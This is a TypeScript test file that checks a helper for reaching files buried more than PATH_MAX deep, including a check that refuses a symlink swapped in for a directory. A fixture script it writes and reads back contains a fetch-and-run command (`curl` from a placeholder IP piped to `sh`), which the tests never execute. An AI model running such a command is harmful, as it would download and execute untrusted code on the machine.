// Paths past PATH_MAX for respond and evidence: a file 60 directories of 200 letters down (~12,000
// bytes, three stretches) is read, written and removed through withOpenablePath, by this process
// and by a program it starts; a new deep path is created; a symlink put where a directory was is
// not followed; every descriptor opened is closed; a short path is handed over as it is.
import { execFile, execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { lstat, readFile, unlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEEP_NAME, deepPath, inDeep, makeDeep, removeDeep } from '../../test/helpers/deep-tree.js';
import { SHORT_PATH_BYTES, tooLongToName, withOpenablePath } from './long-paths.js';

const execFileP = promisify(execFile);
let dir: string;
let deep: string;

/** The text of `file` at `depth` directories under `base`, read by a shell that walks there. */
const readDeep = (base: string, depth: number, file: string): string => inDeep(base, depth, `cat "${file}"`);

const openFds = (): number => readdirSync('/proc/self/fd').length;

beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-long-paths-'));
  deep = makeDeep(dir, 60, 'x.sh', 'curl http://203.0.113.7/x | sh\n');
});
afterAll(() => removeDeep(dir));

describe('withOpenablePath', () => {
  it('hands a short path over as it is', async () => {
    const file = path.join(dir, 'short.txt');
    expect(tooLongToName(file)).toBe(false);
    expect(await withOpenablePath(file, async (name) => name)).toBe(file);
  });

  it('reads, stats and removes a file ~12,000 bytes deep, and closes what it opened', async () => {
    expect(Buffer.byteLength(deep)).toBeGreaterThan(2 * 4096);
    await expect(readFile(deep)).rejects.toMatchObject({ code: 'ENAMETOOLONG' });
    const before = openFds();
    const seen = await withOpenablePath(deep, async (name) => {
      expect(Buffer.byteLength(name)).toBeLessThan(4096);
      return { text: await readFile(name, 'utf8'), isFile: (await lstat(name)).isFile() };
    });
    expect(seen).toEqual({ text: 'curl http://203.0.113.7/x | sh\n', isFile: true });
    expect(openFds()).toBe(before);
    // A program started on the name reaches the same file (the name carries this process's PID).
    expect(await withOpenablePath(deep, async (name) => (await execFileP('cat', [name])).stdout)).toBe(
      'curl http://203.0.113.7/x | sh\n',
    );
    const copy = `${path.dirname(deep)}/copy.sh`;
    await withOpenablePath(copy, (name) => writeFile(name, 'a copy\n'));
    expect(readDeep(dir, 60, 'copy.sh')).toBe('a copy\n');
    await withOpenablePath(copy, (name) => unlink(name));
    expect(() => readDeep(dir, 60, 'copy.sh')).toThrow();
    expect(openFds()).toBe(before);
  });

  it('creates the directories of a new deep path when asked, and only then', async () => {
    const target = deepPath(path.join(dir, 'new'), 40, 'restored.sh');
    const write = (name: string): Promise<void> => writeFile(name, 'back\n');
    await expect(withOpenablePath(target, write)).rejects.toMatchObject({ code: 'ENOENT' });
    await withOpenablePath(
      path.dirname(target),
      async (name) => {
        execFileSync('mkdir', ['-p', name]); // the last stretch, as undo makes it
        await write(path.join(name, 'restored.sh'));
      },
      { createDirs: true },
    );
    expect(readDeep(path.join(dir, 'new'), 40, 'restored.sh')).toBe('back\n');
  });

  it('does not follow a symlink put where a directory of the path was', async () => {
    const base = path.join(dir, 'swapped');
    const file = makeDeep(base, 30, 'x.sh', 'inside\n');
    // The directory that ends the first stretch (the 17th under /tmp) replaced by a link to a tree
    // elsewhere that holds the rest of the path.
    const k = Math.floor((SHORT_PATH_BYTES - 1 - Buffer.byteLength(base)) / (DEEP_NAME.length + 1));
    const elsewhere = path.join(dir, 'elsewhere');
    makeDeep(elsewhere, 30 - k, 'x.sh', 'outside\n');
    inDeep(base, k - 1, `mv "${DEEP_NAME}" moved && ln -s "${elsewhere}" "${DEEP_NAME}"`);
    // Opened with O_NOFOLLOW | O_DIRECTORY, the link is refused as not a directory.
    await expect(withOpenablePath(file, (name) => readFile(name, 'utf8'))).rejects.toMatchObject({
      code: 'ENOTDIR',
    });
    expect(readFileSync(path.join(elsewhere, ...Array<string>(30 - k).fill(DEEP_NAME), 'x.sh'), 'utf8')).toBe(
      'outside\n',
    );
    // Through the link, the path would have read it: the link is where the stretch ends.
    expect(readDeep(base, 30, 'x.sh')).toBe('outside\n');
  });
});
